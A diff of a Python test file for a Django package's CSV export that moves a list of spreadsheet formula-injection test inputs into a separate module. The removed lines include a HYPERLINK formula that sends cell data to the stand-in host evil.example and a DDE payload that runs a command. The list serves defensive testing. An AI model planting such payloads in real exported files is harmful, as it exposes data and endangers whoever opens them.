@@ -23,24 +23,10 @@ from django_voicepassword import export
 from django_voicepassword.export import Export
 from django_voicepassword.models import CallRequest
 from tests.api.staff import NOON, PHONE, make, verified
+from tests.formulas import FORMULAS
 
 pytestmark = pytest.mark.django_db
 ROOT = Path(__file__).parent.parent
-FORMULAS = [
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    " =1",
-    "＝1",
-    "x,=1",
-    "x;=1",
-    "x, @A1",
-    '=HYPERLINK("http://evil.example?"&A1;"x")',
-    "=cmd|' /C calc'!A0",
-]
 
 
 def read_csv(calls: Any = None, delimiter: str = ",", **options: Any) -> list[dict[str, str]]:
